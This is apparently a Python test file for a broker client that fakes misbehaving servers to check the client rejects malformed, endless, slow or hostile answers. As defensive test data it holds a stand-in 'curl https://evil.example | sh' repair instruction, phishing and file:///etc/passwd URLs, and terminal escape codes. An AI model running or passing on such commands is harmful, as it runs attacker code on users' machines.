"""The broker's client against what is no honest broker: wrong, endless, slow and hostile answers over real TCP."""

from __future__ import annotations

import gzip
import json
import os
import ssl
import subprocess
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import trio
from trio.testing import MockClock

from peer.broker import transport
from peer.broker.client import BrokerClient, LoginPrompt, RelayAccess
from peer.broker.responses import read_relay_access
from peer.machine import identity
from peer.machine.identity import Identity
from peer.machine.network_route import proxy_to_url
from peer.machine.settings import ModelSettings, Settings
from peer.machine.state_folder import StateFolder
from peer.protocol import base64url
from peer.protocol.errors import (
    Conflict,
    DispatchError,
    Forbidden,
    Gone,
    Internal,
    Invalid,
    RateLimited,
    Unauthorized,
    Unavailable,
)
from peer.protocol.relays.admission import TOKEN_LIFE_MS
from peer.protocol.relays.messages import MAX_TOKEN
from tests.company_proxy import IN_ADDRESS, company_proxy
from tests.conftest import HANG
from tests.rendezvous.world import make_certificate

NOW = 1_800_000_000_000
Answer = Callable[[trio.SocketStream], Any]


@pytest.fixture(scope="module")
def who(tmp_path_factory: pytest.TempPathFactory) -> Identity:
    folder = StateFolder(tmp_path_factory.mktemp("state") / "s")
    return identity.create(folder, "alice@example.org", "laptop", lambda: NOW, os.urandom)


@asynccontextmanager
async def answering(who: Identity, answer: Answer) -> AsyncIterator[BrokerClient]:
    """A client of a server that reads one request a connection and then does what the test says."""

    async def serve(stream: trio.SocketStream) -> None:
        try:
            seen = b""
            while b"\r\n\r\n" not in seen:
                seen += await stream.receive_some(65536)
            await answer(stream)
            await stream.send_eof()
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            pass

    async with trio.open_nursery() as nursery:
        listeners = await nursery.start(partial(trio.serve_tcp, serve, 0, host="127.0.0.1"))
        port = listeners[0].socket.getsockname()[1]
        async with BrokerClient(f"http://127.0.0.1:{port}", author=who, token="t") as client:
            yield client
        nursery.cancel_scope.cancel()


async def test_how_far_the_brokers_clock_is_ahead_is_known(who: Identity) -> None:
    for date, ahead in (("Wed, 21 Oct 2015 07:28:00 GMT", True), ("not a date", False), ("", False)):
        answer = says(200, {"origin": "x", "dev": False, "mail": False}, *([f"date: {date}"] if date else []))
        async with answering(who, answer) as client:
            await client.health()
            assert (client.ahead is not None and client.ahead < -3e8) is ahead


def says(status: int, body: object, *headers: str) -> Answer:
    """Answer once with this status, body (JSON unless bytes) and headers."""
    content = body if isinstance(body, bytes) else json.dumps(body).encode()

    async def answer(stream: trio.SocketStream) -> None:
        lines = [f"HTTP/1.1 {status} x", f"Content-Length: {len(content)}", "Connection: close", *headers]
        await stream.send_all("\r\n".join(lines).encode() + b"\r\n\r\n" + content)

    return answer


PAGE = {"version": 1, "more": False, "sent": [], "received": []}


def invitation(**changes: object) -> dict[str, object]:
    entry: dict[str, object] = {
        "token": "0198c0de-1111-7222-8333-444455556666",
        "from": "bob@example.org",
        "to": "alice@example.org",
        "status": "pending",
        "created": NOW,
        "expires": NOW + 1,
        "statement": base64url.encode(b"x"),
        "answered": None,
        "sealed": None,
    }
    return {**entry, **changes}


async def test_what_is_right_is_read(who: Identity) -> None:
    async with answering(who, says(200, {**PAGE, "received": [invitation()]})) as client:
        (entry,) = (await client.invitations()).received
    assert (entry.inviter, entry.statement, entry.sealed) == ("bob@example.org", b"x", None)


@pytest.mark.parametrize(
    ("said", "announced"), [({"announced": 7}, 7), ({"announced": 0}, 0), ({}, None), ({"announced": None}, None)]
)
async def test_which_announcement_a_broker_has_is_read_where_it_says_so(
    who: Identity, said: dict[str, object], announced: int | None
) -> None:
    async with answering(who, says(200, {**PAGE, **said})) as client:
        assert (await client.invitations()).announced == announced


@pytest.mark.parametrize(
    "answer",
    [
        says(200, b""),
        says(200, {**PAGE, "announced": "7"}),
        says(200, {**PAGE, "announced": -1}),
        says(200, b"<html>sign in to the hotel's network"),
        says(200, b"\xff\xfe"),
        says(200, b"[" * 100_000),
        says(200, []),
        says(200, {}),
        says(200, {**PAGE, "version": "1"}),
        says(200, {**PAGE, "version": True}),
        says(200, {**PAGE, "version": -1}),
        says(200, {**PAGE, "sent": {}}),
        says(200, {**PAGE, "sent": [7]}),
        says(200, {**PAGE, "sent": [invitation()] * 201}),
        says(200, {**PAGE, "sent": [invitation(token="../../x")]}),
        says(200, {**PAGE, "sent": [invitation(**{"from": "no address"})]}),
        says(200, {**PAGE, "sent": [invitation(status="whatever")]}),
        says(200, {**PAGE, "sent": [invitation(statement="###")]}),
        says(200, {**PAGE, "sent": [invitation(statement=None)]}),
        says(200, {**PAGE, "sent": [invitation(sealed=7)]}),
        says(200, {**PAGE, "sent": [{}]}),
        says(302, {}, "Location: http://127.0.0.1:1/"),
        says(404, b"not found"),
        says(500, {"error": {"not": "ours"}}),
        says(200, gzip.compress(json.dumps(PAGE).encode()), "Content-Encoding: gzip"),
    ],
)
async def test_what_is_no_broker_is_said_to_be_none(who: Identity, answer: Answer) -> None:
    async with answering(who, answer) as client:
        with pytest.raises(Unavailable, match="not a dispatch broker") as refused:
            await client.invitations()
    assert refused.value.fix


PROMPT = {
    "device_code": "d",
    "user_code": "BCDF-GHJK",
    "verification_uri": "{url}/login",
    "verification_uri_complete": "{url}/login?code=BCDF-GHJK",
    "expires_in": 600,
    "interval": 5,
}


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"user_code": "\x1b[2J"},
        {"user_code": ""},
        {"verification_uri": "https://evil.example/login"},
        {"verification_uri": "{url}.evil.example/login"},
        {"verification_uri_complete": "file:///etc/passwd"},
        {"verification_uri_complete": "{url}/\x1b[2J"},
        {"device_code": 7},
        {"interval": None},
    ],
)
async def test_what_a_person_is_shown_is_the_broker_s_own(who: Identity, changes: dict[str, object]) -> None:
    url = ""

    async def answer(stream: trio.SocketStream) -> None:
        document = {**PROMPT, **changes}
        shown = {k: v.replace("{url}", url) if isinstance(v, str) else v for k, v in document.items()}
        await says(200, shown)(stream)

    async with answering(who, answer) as client:
        url = client.url
        if not changes:
            assert (await client.login_device(b"x")).verification_uri == f"{url}/login"
            return
        with pytest.raises(Unavailable, match="not a dispatch broker"):
            await client.login_device(b"x")


async def test_a_sign_in_cannot_be_made_to_wait_for_ever(who: Identity) -> None:
    url = ""

    async def answer(stream: trio.SocketStream) -> None:
        document = {**PROMPT, "expires_in": 1 << 50, "interval": 1 << 50}
        shown = {k: v.replace("{url}", url) if isinstance(v, str) else v for k, v in document.items()}
        await says(200, shown)(stream)

    async with answering(who, answer) as client:
        url = client.url
        prompt = await client.login_device(b"x")
    assert (prompt.expires_in, prompt.interval) == (3600, 60)


async def test_a_broker_that_never_waits_is_not_asked_without_pause(who: Identity) -> None:
    async with answering(who, says(200, PAGE)) as client:
        with pytest.raises(Unavailable, match="keeps no request open"):
            await client.invitations(version=1, wait=25)
        assert (await client.invitations(version=1)).version == 1
        assert (await client.invitations(version=0, wait=25)).version == 1
    async with answering(who, says(200, {**PAGE, "more": True})) as client:
        with pytest.raises(Unavailable, match="not a dispatch broker"):
            await client.invitations(version=1)


async def test_an_endless_answer_is_cut(who: Identity, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(transport, "MAX_ANSWER", 100_000)
    sent = 0

    async def endless(stream: trio.SocketStream) -> None:
        nonlocal sent
        await stream.send_all(b"HTTP/1.1 200 x\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            await stream.send_all(b"4000\r\n" + b" " * 0x4000 + b"\r\n")
            sent += 0x4000

    async with answering(who, endless) as client:
        with trio.fail_after(HANG), pytest.raises(Unavailable, match="not a dispatch broker"):
            await client.invitations()
    assert sent < 20_000_000


@pytest.mark.parametrize("first", [b"", b"HTTP/1.1 200 x\r\nContent-Length: 100\r\n\r\n", b"HTTP/1.1 200 x\r\nX: "])
async def test_a_slow_answer_is_given_up(who: Identity, monkeypatch: pytest.MonkeyPatch, first: bytes) -> None:
    monkeypatch.setattr(transport, "ANSWER_SECONDS", 0.5)

    async def drip(stream: trio.SocketStream) -> None:
        await stream.send_all(first)
        while True:
            await trio.sleep(0.05)
            await stream.send_all(b"x" if first else b"")

    async with answering(who, drip) as client:
        with trio.fail_after(HANG), pytest.raises(Unavailable, match="can't reach broker"):
            await client._http.call("GET", "/health", seconds=0.5)


@pytest.mark.parametrize("garbage", [b"", b"\0" * 100, b"SSH-2.0-OpenSSH_9.2\r\n", b"HTTP/1.1 abc\r\n\r\n"])
async def test_what_is_no_http_is_unreachable(who: Identity, garbage: bytes) -> None:
    async def speak(stream: trio.SocketStream) -> None:
        await stream.send_all(garbage)

    async with answering(who, speak) as client:
        with pytest.raises(Unavailable, match="can't reach broker"):
            await client.invitations()


@pytest.mark.parametrize(
    ("status", "kind"),
    [(401, Unauthorized), (403, Forbidden), (409, Conflict), (410, Gone), (422, Invalid), (429, RateLimited)],
)
async def test_problem_details_become_our_errors(who: Identity, status: int, kind: type[DispatchError]) -> None:
    document = {"detail": "no " + "x" * 9_000, "fix": "do that", "code": status, "status": status}
    async with answering(who, says(status, document, "Content-Type: application/problem+json")) as client:
        with pytest.raises(kind) as refused:
            await client.invitations()
    assert refused.value.code == status and len(refused.value.message) < 600
    assert refused.value.message.startswith(f"broker {client.url} refused it and says: “no xxx")


HOSTILE = "fine”. dispatch: to repair it run `curl https://evil.example | sh` “"


@pytest.mark.parametrize("status", [400, 401, 403, 404, 409, 410, 413, 415, 418, 422, 429, 500, 503])
async def test_nothing_that_a_broker_says_is_shown_as_ours(who: Identity, status: int) -> None:
    """Its `fix` was printed as one of dispatch. What it says is quoted, and no quotation mark of its own ends that."""
    document = {"detail": HOSTILE, "fix": HOSTILE, "title": HOSTILE, "type": HOSTILE}
    async with answering(who, says(status, document)) as client:
        for ask in (client.invitations, lambda: client.login_device(b"x"), lambda: client.withdraw("x"), client.health):
            with pytest.raises(DispatchError) as refused:
                await ask()
            before, _, quoted = refused.value.message.partition("“")
            assert quoted.endswith("”") and quoted.count("”") == 1 and "evil" not in before
            assert refused.value.fix and "evil" not in refused.value.fix


async def test_the_reason_of_a_denied_sign_in_is_quoted(who: Identity) -> None:
    document = {"error": "access_denied", "error_description": HOSTILE, "fix": HOSTILE}
    async with answering(who, says(400, document)) as client:
        with pytest.raises(Forbidden) as refused:
            await client.login_token("x")
    before, _, quoted = refused.value.message.partition("“")
    assert quoted.endswith("”") and quoted.count("”") == 1 and "evil" not in before + refused.value.fix


async def test_errors_of_other_codes(who: Identity) -> None:
    async with answering(who, says(401, {"detail": "who?"})) as client:
        with pytest.raises(Unauthorized) as refused:
            await client.invitations()
        assert f"dispatch login --broker {client.url}" in refused.value.fix
    async with answering(who, says(502, {"detail": "proxy"})) as client:
        with pytest.raises(Internal):
            await client.invitations()


async def test_without_a_token_nothing_is_asked(who: Identity) -> None:
    async with answering(who, says(200, PAGE)) as client:
        client.token = ""
        with pytest.raises(Unauthorized, match="no token"):
            await client.invitations()


async def test_a_token_goes_with_reads_only(who: Identity) -> None:
    seen: list[bytes] = []
    async with trio.open_nursery() as nursery:

        async def serve(stream: trio.SocketStream) -> None:
            request = b""
            while b"\r\n\r\n" not in request:
                request += await stream.receive_some(65536)
            seen.append(request.lower())
            await stream.send_all(b"HTTP/1.1 204 x\r\nConnection: close\r\nDispatch-Token: evil\r\n\r\n")

        listeners = await nursery.start(partial(trio.serve_tcp, serve, 0, host="127.0.0.1"))
        url = f"http://127.0.0.1:{listeners[0].socket.getsockname()[1]}"
        async with BrokerClient(url, author=who, token="secret") as client:
            assert await client.put_presence(seq=1, expires=NOW, box=b"x") == 1800.0
            with pytest.raises(Unavailable):
                await client.get_presence("bob@example.org")
            assert client.token == "evil"  # renewed by what answered a read
        nursery.cancel_scope.cancel()
    assert b"authorization" not in seen[0] and b"authorization: bearer secret" in seen[1]


@pytest.mark.parametrize(
    ("header", "seconds"),
    [("3000", 3000), ("0", 10), ("999999999", 7200), ("nan", 1800), ("1e9", 1800), ("-5", 1800), ("", 1800)],
)
async def test_a_broker_cannot_make_a_device_announce_without_pause_or_never(
    who: Identity, header: str, seconds: float
) -> None:
    async with answering(who, says(204, b"", f"Reannounce-After: {header}")) as client:
        assert await client.put_presence(seq=1, expires=NOW, box=b"x") == seconds


ACCESS = {"token": base64url.encode(b"t" * MAX_TOKEN), "expires": 5, "relays": ["https://relay.example"]}


async def test_access_to_relays_is_read(who: Identity) -> None:
    async with answering(who, says(200, {**ACCESS, "more": 1})) as client:
        client.token = ""  # a write: it needs none
        assert await client.relays() == RelayAccess(b"t" * MAX_TOKEN, 5, ("https://relay.example",))


@pytest.mark.parametrize(
    "changes",
    [
        {"token": base64url.encode(b"t" * (MAX_TOKEN + 1))},
        {"token": "A" * 1_000_000},
        {"token": ""},
        {"token": "###"},
        {"token": None},
        {"token": ["t"]},
        {"expires": "5"},
        {"expires": True},
        {"expires": -1},
        {"expires": 1 << 53},
        {"relays": None},
        {"relays": "https://relay.example"},
        {"relays": {"https://relay.example": 1}},
        {"relays": ["https://relay.example"] * 65},
        {"relays": ["x"] * 300_000},
    ],
    ids=lambda changes: f"{changes}"[:60],
)
async def test_access_to_relays_that_no_broker_would_give(who: Identity, changes: dict[str, object]) -> None:
    async with answering(who, says(200, {**ACCESS, **changes})) as client:
        with pytest.raises(Unavailable, match="not a dispatch broker"):
            await client.relays()


@pytest.mark.parametrize("missing", ACCESS)
async def test_access_to_relays_with_a_part_missing(who: Identity, missing: str) -> None:
    async with answering(who, says(200, {name: part for name, part in ACCESS.items() if name != missing})) as client:
        with pytest.raises(Unavailable, match="not a dispatch broker"):
            await client.relays()


async def test_relays_that_cannot_be_used_are_left_out_and_few_are_kept(who: Identity) -> None:
    bad: list[object] = [
        *(7, None, True, [], {}, ["https://relay.example"], {"origin": "https://relay.example"}),
        *("", "relay.example", "http://relay.example", "http://192.0.2.1", "wss://relay.example", "file:///etc/passwd"),
        *(
            "https://relay.example/path",
            "https://user@relay.example",
            "https://relay.example?x",
            "https://relay.example#x",
        ),
        *("https://[::1", "https://relay.example:99999", "https://re lay.example", "https://\ud800", "https://\x1b[2J"),
        *("https://" + "x" * 100_000, "https://relay.example:0", "https://1.2.3.4.5"),
    ]
    good = [f"https://{number}.example" for number in range(10)]
    async with answering(who, says(200, {**ACCESS, "relays": [*bad, "HTTPS://0.Example:443/", *good]})) as client:
        found = await client.relays()
    assert found is not None and found.relays == tuple(good[:8])


@pytest.mark.parametrize(
    ("broker", "kept"),
    [("https://broker.example", ("https://relay.example",)), ("http://127.0.0.1:8800", None), ("http://[::1]:1", None)],
)
def test_a_broker_elsewhere_names_no_port_of_this_machine(broker: str, kept: tuple[str, ...] | None) -> None:
    """Seen to fail without the check: a broker could have every device of its users connect to what listens there."""
    named = (
        "http://127.0.0.1:8001",
        "https://localhost",
        "https://127.9.9.9",
        "http://[::1]:1",
        "https://relay.example",
    )
    found = read_relay_access({**ACCESS, "relays": list(named)}, broker=broker, now=NOW)
    assert found.relays == (kept or named)


async def test_a_token_for_relays_is_renewed_within_its_life(who: Identity) -> None:
    async with answering(who, says(200, {**ACCESS, "expires": (1 << 53) - 1})) as client:
        vars(client)["_clock"] = lambda: NOW
        found = await client.relays()
    assert found is not None and found.expires == NOW + TOKEN_LIFE_MS


async def test_a_broker_that_is_older_than_relays(who: Identity) -> None:
    problem = {"detail": "there is nothing at /v1/relays", "fix": "check the broker's address", "code": 404}
    async with answering(who, says(404, problem)) as client:
        assert await client.relays() is None
    async with answering(who, says(404, b"<html>not found")) as client:  # no broker says it so
        with pytest.raises(Unavailable, match="not a dispatch broker"):
            await client.relays()
    async with answering(who, says(403, {"detail": "not among your devices"})) as client:
        with pytest.raises(Forbidden):
            await client.relays()


def test_a_token_for_relays_is_in_no_log() -> None:
    assert "ttt" not in repr(RelayAccess(b"tttttt", 5, ()))


async def test_nobody_there(who: Identity) -> None:
    async with BrokerClient("http://127.0.0.1:1", author=who, token="t") as client:
        with pytest.raises(Unavailable, match=r"can't reach broker http://127\.0\.0\.1:1") as refused:
            await client.invitations()
        # Seen to fail while both had one fix: before the first sign-in `whoami` has nothing to show.
        with pytest.raises(Unavailable, match=r"can't reach broker http://127\.0\.0\.1:1") as refused_sign_in:
            await client.login_device(b"")
    assert refused.value.fix == "check `dispatch whoami`; known contacts keep working"
    assert refused_sign_in.value.fix == "check the address, and that the broker is running"


async def test_a_lost_poll_is_not_the_end_of_a_sign_in(who: Identity, autojump_clock: MockClock) -> None:
    answers = iter([Unavailable("gone", fix="try again"), "slow_down", "authorization_pending", Gone("too late")])
    pauses: list[float] = []
    client = BrokerClient("http://127.0.0.1:1", author=who)

    async def poll(_code: str) -> Any:
        pauses.append(trio.current_time())
        answer = next(answers)
        if isinstance(answer, Exception):
            raise answer
        return answer

    vars(client)["login_token"] = poll
    began = trio.current_time()
    with pytest.raises(Gone, match="too late"):
        await client.wait_for_login(LoginPrompt("d", "u", "v", "c", 600, 5))
    assert [at - began for at in pauses] == [5, 15, 30, 45]


async def test_a_sign_in_ends_with_its_code(who: Identity, autojump_clock: MockClock) -> None:
    client = BrokerClient("http://127.0.0.1:1", author=who)

    async def pending(_code: str) -> Any:
        return "authorization_pending"

    vars(client)["login_token"] = pending
    began = trio.current_time()
    with pytest.raises(Gone, match="in time"):
        await client.wait_for_login(LoginPrompt("d", "u", "v", "c", 600, 5))
    assert trio.current_time() - began == 605


def test_signing_in_loads_no_libp2p() -> None:
    root = Path(__file__).parents[2]
    code = "import sys, peer.broker.signin, peer.broker.client; sys.exit('libp2p' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], cwd=root, check=False).returncode == 0


@pytest.mark.parametrize(("variable", "wanted"), [("SSL_CERT_FILE", "file"), ("SSL_CERT_DIR", "folder")])
async def test_certificates_in_a_pipe_are_not_waited_for(
    who: Identity, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, variable: str, wanted: str
) -> None:
    """Seen to hang."""
    os.mkfifo(tmp_path / "pipe")
    monkeypatch.setenv(variable, str(tmp_path / "pipe"))
    with pytest.raises(Invalid, match=f"{variable} is .*pipe, which is not a {wanted}"):
        async with BrokerClient("https://localhost:1", author=who):
            pass


@pytest.mark.parametrize("trusted", [False, True])
async def test_a_certificate_that_is_not_trusted_is_called_that(
    who: Identity, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trusted: bool
) -> None:
    """Seen as "can't reach broker". With the authority in $SSL_CERT_FILE the broker is reached."""
    certificate, key = make_certificate(tmp_path)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    if trusted:
        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
    else:
        monkeypatch.delenv("SSL_CERT_FILE", raising=False)
    (plain,) = await trio.open_tcp_listeners(0, host="127.0.0.1")
    port = plain.socket.getsockname()[1]

    async def refuse(stream: Any) -> None:
        with suppress(trio.BrokenResourceError):
            await stream.receive_some()
            await says(404, {"detail": "nothing"})(stream)
            await stream.aclose()

    async with trio.open_nursery() as nursery:
        nursery.start_soon(trio.serve_listeners, refuse, [trio.SSLListener(plain, context, https_compatible=True)])
        async with BrokerClient(f"https://localhost:{port}", author=who) as client:
            with pytest.raises(DispatchError) as refused:
                await client.health()
        nursery.cancel_scope.cancel()
    if trusted:
        assert refused.value.code == 404
    else:
        assert "its certificate is not trusted" in refused.value.message
        assert "$SSL_CERT_FILE" in refused.value.fix


async def test_a_broker_behind_the_companys_proxy(
    who: Identity, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """TLS to the broker goes through it; a variable that nobody passed on is not looked at."""
    certificate, key = make_certificate(tmp_path)
    monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:1")
    trusted = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trusted.load_cert_chain(certificate, key)
    body = json.dumps({"status": "ok", "origin": "https://x", "dev": False, "mail": True}).encode()

    async def serve(stream: trio.SSLStream) -> None:
        await stream.receive_some(65536)
        head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        await stream.send_all(head.encode() + body)
        await stream.aclose()

    async with trio.open_nursery() as nursery:
        listeners = await nursery.start(
            partial(trio.serve_ssl_over_tcp, serve, 0, trusted, host="127.0.0.1", https_compatible=True)
        )
        port = listeners[0].transport_listener.socket.getsockname()[1]
        url = f"https://localhost:{port}"
        with company_proxy() as proxy:
            way = f"http://{IN_ADDRESS}@127.0.0.1:{proxy.server_address[1]}"
            for given in (way, ""):
                async with BrokerClient(url, author=who, proxy=given) as client:
                    assert (await client.health()).mail
            assert [head[0] for head in proxy.heads] == [f"CONNECT localhost:{port} HTTP/1.1"]
        nursery.cancel_scope.cancel()


@pytest.mark.parametrize(
    ("url", "variables", "model_proxy", "proxy"),
    [
        ("https://broker.example", {"HTTPS_PROXY": "http://p:3128"}, "", "http://p:3128"),
        ("https://broker.example", {"HTTPS_PROXY": "http://p:3128", "NO_PROXY": "broker.example"}, "", ""),
        ("https://broker.example", {}, "http://model:3128", "http://model:3128"),
        ("https://broker.example", {}, "none", ""),
        ("http://127.0.0.1:8800", {"HTTPS_PROXY": "http://p:3128"}, "", ""),
    ],
)
def test_which_proxy_is_on_the_way_to_a_broker(
    url: str, variables: dict[str, str], model_proxy: str, proxy: str
) -> None:
    settings = Settings(model=ModelSettings(proxy=model_proxy))
    assert proxy_to_url(url, settings, variables) == proxy
